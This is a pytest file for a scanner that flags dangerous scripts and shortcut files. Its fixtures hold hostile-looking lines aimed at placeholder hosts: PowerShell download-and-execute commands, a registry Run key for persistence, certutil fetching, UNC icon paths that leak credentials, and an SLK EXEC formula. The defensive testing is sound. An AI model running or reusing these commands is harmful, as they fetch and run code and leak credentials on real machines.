"""Of what acts when it is opened, the line is quoted by which a person decides."""

import pytest

from gateway.model import Finding, Level
from gateway.scan.analyzers.scripts import ScriptAnalyzer
from gateway.scan.api import Context
from tests.support import office

DROPPER, ACTS = ("script.dropper", Level.MALICIOUS), ("script.acts", Level.SUSPICIOUS)


def look(text: str, name: str) -> list[Finding]:
    found = ScriptAnalyzer().analyze(office.artifact(text.encode(), name), Context())
    return [seen for seen in found if isinstance(seen, Finding)]


def judged(text: str, name: str) -> list[tuple[str, Level]]:
    return [(seen.code, seen.level) for seen in look(text, name)]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('powershell -w hidden -c "iwr https://a.example/b -o b.exe; ./b.exe"', "a.bat"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "a.cmd"),
        ("s=new ActiveXObject('WScript.Shell');x=new ActiveXObject('MSXML2.XMLHTTP')", "a.js"),
        ("IEX (New-Object Net.WebClient).DownloadString('https://a.example')", "a.ps1"),
        ('CreateObject("WScript.Shell").Run Chr(99)&Chr(97)&Chr(108)&Chr(99)&Chr(46)&"x"', "a.vbs"),
        ("import os,urllib.request\nos.system('x')", "a.py"),
        ('[HKCU\\Software\\X\\CurrentVersion\\Run]\n"a"="mshta https://a.example"', "a.reg"),
        ("<DeepLink>cmd.exe /c certutil -urlcache x</DeepLink>", "a.settingcontent-ms"),
    ],
)  # fmt: skip
def test_a_script_that_starts_and_fetches_hides_or_stays_is_malicious(text: str, name: str) -> None:
    assert DROPPER in judged(text, name)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("@echo off\r\ncmd /c dir", "a.cmd"),
        ('CreateObject("WScript.Shell").Popup "a"', "a.vbs"),
        ("[DefaultInstall]\nRunPreSetupCommands=a\n[a]\nrundll32 a.dll,b", "a.inf"),
    ],
)  # fmt: skip
def test_a_script_that_only_starts_something_is_suspicious(text: str, name: str) -> None:
    assert judged(text, name) == [ACTS]


@pytest.mark.parametrize(
    ("text", "name", "code"),
    [
        ("[InternetShortcut]\r\nURL=file://a.example/b/c.exe\r\n", "a.url", "script.share"),
        ("[Shell]\r\nIconFile=\\\\192.0.2.1\\a\\b.ico\r\n", "a.scf", "script.share"),
        (
            "[.ShellClassInfo]\nIconResource=\\\\192.0.2.1\\a\\b.ico\n",
            "desktop.ini",
            "script.share",
        ),
        ("<url>\\\\a.example\\DavWWWRoot\\b</url>", "a.library-ms", "script.share"),
        ("[InternetShortcut]\r\nURL=https://a.example/\r\n", "a.url", "script.web"),
        ("WEB\n1\nhttps://a.example/q\n", "a.iqy", "script.web"),
        ('ID;P\nC;X1;Y1;K0;EEXEC("cmd /c x")\nE\n', "a.slk", "script.formula"),
    ],
)
def test_where_shortcuts_and_settings_lead_is_told(text: str, name: str, code: str) -> None:
    assert code in [found for found, _ in judged(text, name)]


def test_the_evidence_quotes_the_lines_with_harmless_addresses() -> None:
    (finding,) = look('@echo off\r\npowershell -c "iwr https://a.example/b"', "a.bat")

    assert finding.summary == "A script runs programs, fetches files"
    assert "powershell -c" in finding.evidence
    assert "hxxps://a[.]example/b" in finding.evidence


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "notes.txt"),
        ("#!/bin/sh\nwget https://a.example/b\n", "0001-fix.patch"),
        ("alert(1)", "a.js"),
        ("[.ShellClassInfo]\nIconResource=C:\\Windows\\a.dll,3\n", "desktop.ini"),
        ("[.ShellClassInfo]\nIconResource=\\\\192.0.2.1\\a\\b.ico\n", "settings.ini"),
        ("[InternetShortcut]\r\nURL=mailto:a@a.example\r\n", "a.url"),
        ("Bonjour, le script est joint.", "lettre.txt"),
    ],
)
def test_text_under_the_name_of_a_text_and_idle_scripts_are_left_alone(
    text: str, name: str
) -> None:
    assert judged(text, name) == []
